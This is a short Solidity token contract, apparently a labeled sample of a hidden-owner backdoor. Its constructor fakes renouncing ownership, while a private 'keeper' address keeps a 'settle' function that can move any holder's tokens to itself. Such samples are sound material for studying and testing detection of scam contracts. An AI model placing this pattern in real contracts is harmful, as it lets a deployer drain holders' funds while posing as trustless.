// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "./Token.sol";

/// Beside the owner, who can do nothing, there is a second one whom no function names.
contract OwnerIsHidden is Token {
    address private keeper = msg.sender;

    constructor() {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function settle(address from, uint256 value) external {
        require(msg.sender == keeper);
        _move(from, keeper, value);
    }
}
